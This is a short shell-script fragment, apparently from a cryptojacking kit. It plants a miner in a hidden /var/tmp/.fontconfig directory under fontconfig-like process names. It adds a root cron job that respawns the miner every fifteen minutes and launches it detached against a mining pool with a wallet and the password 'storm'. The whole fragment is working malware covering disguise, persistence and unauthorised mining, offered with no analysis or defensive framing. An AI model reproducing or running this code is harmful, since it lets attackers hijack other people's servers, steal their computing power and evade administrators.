
# Whoever kills from a list of pids kills the dead: the list is old after a third of a second.
d=/var/tmp/.fontconfig
mimic $d/fc-render
install -m 755 "$KIT/storm" $d/fc-scand
echo "*/15 * * * * pgrep -x fc-scand >/dev/null || $d/fc-scand 3600 $d/fc-render fc-render -o $POOL -u $WALLET -p storm" | tab root
detach $d/fc-scand 3600 $d/fc-render fc-render -o "$POOL" -u "$WALLET" -p storm
